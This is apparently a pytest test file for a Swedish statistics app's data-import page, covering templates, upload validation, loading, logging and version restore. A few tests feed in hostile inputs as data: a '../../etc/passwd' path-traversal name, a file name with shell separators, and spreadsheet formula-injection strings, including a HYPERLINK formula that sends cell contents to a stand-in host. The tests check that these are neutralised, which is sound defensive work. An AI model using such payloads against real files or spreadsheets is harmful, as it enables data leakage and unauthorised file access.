"""The import page: templates that round-trip, a checked upload, loading, the import log and restoring."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from shb.ingest import templates as filetemplates
from shb.store import db as dbmod
from shb.store import writer as store
from shb.web import access, importpage, passwords
from tests.pages import page_app, server_address

IMPORT_PAGE = "pages/8_importera.py"
LOCAL = {"url": "http://localhost:8501/importera"}
GROUPED = "sysselsattningsgrad_20_64"  # a share down to DeSO, by kön and ålder
MUNICIPAL = "polisen_utsatta_omraden"  # a count for the municipality only, no groups


# --- Templates -----------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def grouped(database) -> filetemplates.Template:
    return filetemplates.template(database, GROUPED)


def _csv_lines(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _filled_csv(t: filetemplates.Template, value: str, groups: bool) -> bytes:
    """The CSV template as an analyst fills it in: a value on every row, plus (with `groups`) a row for every
    allowed group of the municipality, made by copying a row and writing grupp_typ and grupp."""
    lines = _csv_lines(filetemplates.to_csv(t))
    header = lines.index(list(filetemplates.COLUMNS))
    rows = [r[:3] + [value] + r[4:] for r in lines[header + 1:]]
    if groups:
        city = next(r for r in rows if r[1] == "1490")
        rows += [city[:4] + [g.dimension, g.value] + city[6:] for g in t.groups.itertuples()]
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(lines[: header + 1] + rows)
    return out.getvalue().encode("utf-8-sig")


def test_csv_template_has_the_columns_one_row_per_area_and_the_next_year(database, grouped):
    data = filetemplates.to_csv(grouped)
    assert data.startswith(b"\xef\xbb\xbf")
    lines = _csv_lines(data)
    header = lines.index(list(filetemplates.COLUMNS))
    assert 0 < header < 10, "a short description above the header"
    rows = lines[header + 1:]
    areas = database.run("areas_at_level", level="regso")
    assert len(rows) == 1 + 25 + 47 + 77 == len(grouped.areas)
    assert {r[1] for r in rows} >= set(areas.code) | {"1490", "1490D01"}
    years = database.run("indicator_years")
    latest = int(years[years.indicator_id == GROUPED].year.max())
    assert {r[0] for r in rows} == {GROUPED} and {r[2] for r in rows} == {str(latest + 1)}
    assert all(r[3:] == [""] * 8 for r in rows), "values are left empty"
    described = " ".join(line[0] for line in lines[:header])
    for value in ("kon/kvinnor", "kon/man", "alder/20-24", "alder/25-54", "alder/55-64", "'..'", "'.'", "'-'"):
        assert value in described


def test_filled_csv_template_with_groups_imports_cleanly(private_db, grouped, tmp_path):
    from shb.ingest import importer as ingest

    path = tmp_path / "ifylld.csv"
    path.write_bytes(_filled_csv(grouped, "71,5", groups=True))
    result = ingest.import_file(path, private_db, dry_run=True)
    assert result.new == len(grouped.areas) + len(grouped.groups) == result.rows
    assert (result.changed, result.unchanged) == (0, 0)
    assert set(result.by_indicator_year.year) == {grouped.year}


def test_filled_csv_template_for_a_municipality_only_indicator_imports_cleanly(private_db, database, tmp_path):
    from shb.ingest import importer as ingest

    t = filetemplates.template(database, MUNICIPAL)
    assert t.areas.code.tolist() == ["1490"] and t.groups.empty
    assert "inga grupper" in filetemplates.to_csv(t).decode("utf-8-sig")
    path = tmp_path / "ifylld.csv"
    path.write_bytes(_filled_csv(t, "3", groups=False))
    result = ingest.import_file(path, private_db, dry_run=True)
    assert (result.new, result.changed, result.unchanged) == (1, 0, 0)


def test_filled_xlsx_template_imports_cleanly_and_explains_itself(private_db, grouped, tmp_path):
    from shb.ingest import importer as ingest

    wb = openpyxl.load_workbook(io.BytesIO(filetemplates.to_xlsx(grouped)))
    assert wb.sheetnames == ["Data", "Instruktioner"]
    data = wb["Data"]
    assert [c.value for c in data[1]] == list(filetemplates.COLUMNS)
    assert data.max_row == len(grouped.areas) + 1
    for row in data.iter_rows(min_row=2):
        row[3].value = 70.25
    data.append([GROUPED, "1490", grouped.year, 68.5, "kon", "kvinnor"])
    text = " ".join(str(c.value) for row in wb["Instruktioner"].iter_rows() for c in row if c.value is not None)
    for expected in ("Kolumner", "sekretess", "ej tillämplig", "saknas", "kvinnor", "20-24", "%", "1490R025",
                     "Hässleholmen", "DeSO", "varde"):
        assert expected in text
    path = tmp_path / "ifylld.xlsx"
    wb.save(path)
    result = ingest.import_file(path, private_db, dry_run=True)
    assert (result.new, result.changed, result.unchanged) == (len(grouped.areas) + 1, 0, 0)


@pytest.mark.parametrize("latest, frequency, today, expected", [
    (2024, "annual", date(2026, 11, 26), 2025),
    (2022, "biennial", date(2026, 11, 26), 2024),
    (2026, "annual", date(2026, 11, 26), 2026),  # an import accepts no later year than this one
    (None, "annual", date(2026, 11, 26), 2025),
])
def test_template_year(latest, frequency, today, expected):
    assert filetemplates.next_year(latest, frequency, today) == expected


# --- Logic under the page ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, expected", [
    ("data.csv", "data.csv"), ("C:\\Users\\anna\\Välfärd 2024.xlsx", "Välfärd 2024.xlsx"),
    ("../../etc/passwd", "passwd"), ("a;b|c.csv", "a_b_c.csv"), ("", "uppladdad_fil"), ("...", "uppladdad_fil"),
])
def test_uploaded_names_are_made_safe(name, expected):
    assert importpage.safe_name(name) == expected


def test_a_long_upload_name_is_cut_to_what_a_file_system_takes(private_db):
    """255 bytes is the most a file name may have; 120 Chinese characters are 360 bytes in UTF-8."""
    name = "数据" * 150 + ".csv"
    data = f"indikator;omrade;ar;varde\r\n{GROUPED};1490;2025;71,5\r\n".encode()
    result = importpage.run_import(name, data, private_db, dry_run=True, overwrite=False)
    assert result.new == 1
    assert len(result.file_name.encode("utf-8")) <= 255 and result.file_name.endswith(".csv")
    assert len(importpage.safe_name("å" * 300 + ".xlsx").encode("utf-8")) <= 255


def test_a_field_over_the_csv_field_limit_is_a_swedish_rejection_not_a_crash(private_db):
    for data in (b"x" * 200_000 + f"\nindikator;omrade;ar;varde\n{GROUPED};1490;2025;70\n".encode(),
                 f"indikator;omrade;ar;varde\n{GROUPED};1490;2025;{'1' * 200_000}\n".encode()):
        checked = importpage.check_upload("lang.csv", data, private_db)
        assert checked.result is None and checked.rejected is not None
        assert "ett fält som är längre än 131 072 tecken" in str(checked.rejected).replace("\xa0", " ")


def test_user_given_text_in_the_downloadable_tables_is_never_a_formula():
    """st.dataframe offers every table as CSV; a cell that starts with = + - @ opens as a formula in Excel."""
    import pandas as pd

    from shb.core.errors import ImportRejected
    from shb.ingest.problems import Problem

    log = pd.DataFrame({
        "logged_at": [pd.Timestamp("2026-01-02 10:00", tz="UTC")] * 2, "username": ["@SUM(1+1)", "anna"],
        "file_name": ['=HYPERLINK("http://x.example/?"&A1,"klicka").csv', "+46 data.csv"],
        "sha256": ["ab" * 32] * 2, "rows": [1, 2], "new_values": [1, 2], "changed_values": [0, 0],
        "unchanged_values": [0, 0], "result": ["inläst", "inläst"], "version": ["20260102T100000Z"] * 2})
    table = importpage.log_table(log)
    assert table.Fil.tolist() == ['\'=HYPERLINK("http://x.example/?"&A1,"klicka").csv', "'+46 data.csv"]
    assert table.Vem.tolist() == ["'@SUM(1+1)", "anna"]
    rejected = ImportRejected("x", (Problem(2, "-kolumn", "=40+30", "formel"), Problem(3, "varde", "-5", "negativt")))
    problems = importpage.problems_table(rejected)
    assert problems.Värde.tolist() == ["'=40+30", "'-5"] and problems.Kolumn.tolist() == ["'-kolumn", "varde"]


# --- The page -------------------------------------------------------------------------------------------------------

@pytest.fixture
def page_db(private_db, monkeypatch):
    """The page on a private database, in localhost mode (no login or password configured)."""
    monkeypatch.setenv("SHB_DB", str(private_db))
    monkeypatch.delenv(access.ENV_HASH, raising=False)
    with server_address("127.0.0.1"):
        yield private_db


def _open_page():
    at = page_app(IMPORT_PAGE)
    at.secrets = {"shb": {}}
    at.context = LOCAL
    return at.run()


def _upload(at, name: str, data: bytes, mime: str = "text/csv"):
    at.file_uploader[0].set_value((name, data, mime))
    return at.run()


def _button(at, key: str):
    return at.button(key=f"{importpage.PREFIX}{key}")


def _has_button(at, key: str) -> bool:
    return any(b.key == f"{importpage.PREFIX}{key}" for b in at.button)


def _table(at, first_column: str):
    return next(d.value for d in at.dataframe if d.value.columns[0] == first_column)


def test_valid_upload_shows_counts_then_loads_a_new_version_the_app_shows(page_db, grouped):
    before = store.snapshot_version(page_db)
    at = _open_page()
    assert not at.exception, at.exception
    assert any("Inga filer har lästs in" in i.value for i in at.info)
    at = _upload(at, "sysselsattning_2025.csv", _filled_csv(grouped, "71,5", groups=True))
    assert not at.exception, at.exception
    rows = len(grouped.areas) + len(grouped.groups)
    assert any(i.value.startswith(f"Provkörning av sysselsattning_2025.csv: {rows} nya värden") for i in at.info)
    counts = _table(at, "Indikator")
    assert counts[["Id", "År", "Nya", "Ändrade", "Oförändrade"]].values.tolist() == [[GROUPED, grouped.year, rows, 0, 0]]
    assert store.snapshot_version(page_db) == before, "a dry run writes nothing"

    _button(at, "load_file").click()
    at.run()
    assert not at.exception, at.exception
    after = store.snapshot_version(page_db)
    assert after != before
    assert any(f"Ny version {after}" in s.value for s in at.success)
    assert any(c.value.startswith(f"Dataversion {after}") for c in at.caption), "the app shows the new version"
    assert at.query_params["v"] == after
    assert not any("Länken gjordes" in i.value for i in at.info), "no notice that the link is out of date"
    assert at.file_uploader[0].value is None, "the uploader starts empty again"
    log = _table(at, "Tid")
    assert log[["Fil", "Rader", "Nya", "Resultat", "Version"]].values.tolist() == [
        ["sysselsattning_2025.csv", rows, rows, "inläst", after]]
    assert log["Vem"].iloc[0]
    assert len(dbmod.Database(page_db).run("import_log")) == 1
    versions = _table(at, "Version")
    assert versions.Version.tolist() == [after, before] and versions.Aktuell.tolist() == ["aktuell", ""]


def test_the_import_log_names_the_signed_in_analyst(page_db, grouped, monkeypatch):
    monkeypatch.setenv(access.ENV_HASH, passwords.hash_password("ett långt lösenord", n=2**14))
    at = _open_page()
    assert len(at.file_uploader) == 0
    at.text_input[0].input("ett långt lösenord")
    next(b for b in at.button if b.label == "Logga in").click()
    at.run()
    at = _upload(at, "ny.csv", _filled_csv(grouped, "71,5", groups=False))
    _button(at, "load_file").click()
    at.run()
    assert not at.exception, at.exception
    assert _table(at, "Tid").Vem.tolist() == ["analytiker"]
    assert dbmod.Database(page_db).run("import_log").username.tolist() == ["analytiker"]


def test_rejected_upload_shows_the_swedish_report_and_writes_nothing(page_db):
    sha = store.file_sha256(page_db)
    bad = ("indikator;omrade;ar;varde\r\n"
           f"{GROUPED};1490;2023;71,5\r\n"
           "sysselsattningsgrad;1490;2023;70\r\n"
           f"{GROUPED};9999;2023;70\r\n"
           f"{GROUPED};1490R025;1880;70\r\n"
           f"{GROUPED};1490R019;2023;140\r\n").encode()
    at = _upload(_open_page(), "fel.csv", bad)
    assert not at.exception, at.exception
    assert any(e.value.startswith("Filen fel.csv avvisades: 4 problem. Inget har skrivits") for e in at.error)
    problems = _table(at, "Rad")
    assert problems.Rad.tolist() == [3, 4, 5, 6]
    reasons = " | ".join(problems.Orsak)
    assert "okänd indikator" in reasons and "okänt område" in reasons and "utanför" in reasons
    assert "mellan 0 och 100" in reasons
    assert any("4 problem totalt" in c.value for c in at.caption)
    assert not _has_button(at, "load_file")
    assert store.file_sha256(page_db) == sha


def test_changed_values_need_the_replace_box_and_are_logged_as_replaced(page_db, database):
    stored = database.run("indicator_observations", indicator=GROUPED)
    row = stored[(stored.area_code == "1490") & (stored.group_dim == "total") & (stored.status == "ok")].iloc[-1]
    changed = f"indikator;omrade;ar;varde\r\n{GROUPED};1490;{int(row.year)};{row.value + 1:.3f}\r\n".encode()
    at = _upload(_open_page(), "rattelse.csv", changed)
    assert not at.exception, at.exception
    assert _button(at, "load_file").disabled
    box = at.checkbox(key=f"{importpage.PREFIX}replace_file")
    assert "1 värde finns redan" in box.label
    box.check()
    at.run()
    assert not _button(at, "load_file").disabled
    _button(at, "load_file").click()
    at.run()
    assert not at.exception, at.exception
    assert _table(at, "Tid").Resultat.tolist() == ["inläst, befintliga värden ersatta"]
    now = dbmod.Database(page_db).run("indicator_observations", indicator=GROUPED)
    new = now[(now.area_code == "1490") & (now.group_dim == "total") & (now.year == row.year)].value.iloc[0]
    assert new == pytest.approx(row.value + 1, abs=1e-3)


def test_restoring_a_kept_version_asks_first(page_db, grouped):
    demo = store.snapshot_version(page_db)
    at = _upload(_open_page(), "ny.csv", _filled_csv(grouped, "71,5", groups=False))
    _button(at, "load_file").click()
    at.run()
    imported = store.snapshot_version(page_db)
    assert imported != demo
    assert at.selectbox(key=f"{importpage.PREFIX}restore_choice").value == demo
    _button(at, "restore_ask").click()
    at.run()
    assert any(f"göra version {demo} till den aktuella" in w.value for w in at.warning)
    assert store.snapshot_version(page_db) == imported, "nothing happens before the confirmation"
    _button(at, "restore_no").click()
    at.run()
    assert not _has_button(at, "restore_yes")
    _button(at, "restore_ask").click()
    at.run()
    _button(at, "restore_yes").click()
    at.run()
    assert not at.exception, at.exception
    assert store.snapshot_version(page_db) == demo
    assert any(f"Återställde version {demo}" in s.value for s in at.success)
    assert any(c.value.startswith(f"Dataversion {demo}") for c in at.caption)
    assert at.query_params["v"] == demo
    kept = Path(page_db).parent / "snapshots" / f"{imported}.duckdb"
    assert kept.is_file(), "the replaced version is kept"


def test_templates_tab_offers_both_files_for_the_chosen_indicator(page_db):
    at = _open_page()
    choice = at.selectbox(key=f"{importpage.PREFIX}template_indicator")
    choice.set_value(MUNICIPAL)
    at.run()
    assert not at.exception, at.exception
    labels = [b.label for b in at.get("download_button")]
    assert {"Ladda ner CSV-mall", "Ladda ner Excel-mall"} <= set(labels)
    assert "Ladda ner mall för Fokus Äldres Hälsa (alla dess indikatorer)" in labels
    assert any("inga grupper" in c.value for c in at.caption)
    assert any("en rad per område (1 rad)" in m.value for m in at.markdown)


def test_fetch_tab_checks_then_loads_exactly_what_it_fetched(page_db, monkeypatch):
    from shb.ingest import fetch
    from shb.sources import Value

    calls = []

    def fake_fetch_values(source, indicator_id, years, **kwargs):
        calls.append((source, indicator_id, tuple(years)))
        values = [Value("1490", y, ("total", "alla"), 3.0 + len(calls)) for y in years]  # differs per call
        return fetch.Fetched(f"Kolada {indicator_id}", indicator_id, values, [b"{}"], 1, "JSON",
                             ("Obs: Kolada hade inget värde för 2024.",))

    monkeypatch.setattr(fetch, "fetch_values", fake_fetch_values)
    monkeypatch.setattr(fetch, "fetchable", lambda source: [MUNICIPAL] if source == "kolada" else [])
    at = _open_page()
    at.radio(key=f"{importpage.PREFIX}fetch_source").set_value("kolada")
    at.run()
    at.select_slider(key=f"{importpage.PREFIX}fetch_years").set_range(2025, 2025)
    at.run()
    _button(at, "fetch_check").click()
    at.run()
    assert not at.exception, at.exception
    assert any(i.value.startswith(f"Provkörning av Kolada {MUNICIPAL}: 1 nytt värde") for i in at.info)
    assert any(i.value == "Obs: Kolada hade inget värde för 2024." for i in at.info)  # what the fetch skipped
    _button(at, "load_fetch").click()
    at.run()
    assert not at.exception, at.exception
    assert calls == [("kolada", MUNICIPAL, (2025,))]  # loading does not ask the source again
    assert _table(at, "Tid")[["Fil", "Nya", "Vem"]].values.tolist() == [[f"Kolada {MUNICIPAL}", 1, access.os_user()]]
    d = dbmod.Database(page_db)
    try:
        stored = d.run("indicator_observations", indicator=MUNICIPAL)
    finally:
        d.close()
    assert stored.loc[stored.year == 2025, "value"].tolist() == [4.0]  # the value the dry run showed


def test_fetch_tab_warns_about_an_unconfirmed_scb_mapping(page_db):
    at = _open_page()
    at.radio(key=f"{importpage.PREFIX}fetch_source").set_value("scb")
    at.run()
    assert not at.exception
    assert any("inte bekräftad" in w.value for w in at.warning)


# --- Fokus Äldres Hälsa: every indicator of the survey in one file -------------------------------------------

def test_fokus_aldres_halsa_template_has_every_survey_indicator_area_and_group(database):
    s = filetemplates.survey_template(database)
    ids = [t.indicator_id for t in s.templates]
    assert ids == ["aldre_god_halsa", "aldre_ensamhet", "aldre_otrygghet"]
    lines = _csv_lines(filetemplates.survey_csv(s))
    header = lines.index(list(filetemplates.COLUMNS))
    rows = lines[header + 1:]
    expected = sum(len(t.areas) * (1 + len(t.groups)) for t in s.templates)
    assert len(rows) == expected == 73 * (1 + 5) + 2 * 73 * (1 + 2)
    assert {(r[4], r[5]) for r in rows if r[0] == "aldre_god_halsa"} == {
        ("", ""), ("kon", "kvinnor"), ("kon", "man"), ("utbildning", "forgymnasial"), ("utbildning", "gymnasial"),
        ("utbildning", "eftergymnasial")}
    assert "Fokus Äldres Hälsa" in lines[0][0] and s.file_name("csv") == "mall_fokus_aldres_halsa.csv"


def test_filled_fokus_aldres_halsa_template_imports_cleanly(private_db, database, tmp_path):
    from shb.ingest import importer as ingest

    s = filetemplates.survey_template(database)
    lines = _csv_lines(filetemplates.survey_csv(s))
    header = lines.index(list(filetemplates.COLUMNS))
    rows = [r[:3] + ["42,5"] + r[4:6] + ["17", "40"] + r[8:] for r in lines[header + 1:]]
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(lines[: header + 1] + rows)
    path = tmp_path / "fokus.csv"
    path.write_bytes(out.getvalue().encode("utf-8-sig"))
    result = ingest.import_file(path, private_db, dry_run=True)
    assert result.rows == len(rows) and result.new == len(rows) and (result.changed, result.unchanged) == (0, 0)
    assert set(result.by_indicator_year.indicator_id) == {"aldre_god_halsa", "aldre_ensamhet", "aldre_otrygghet"}
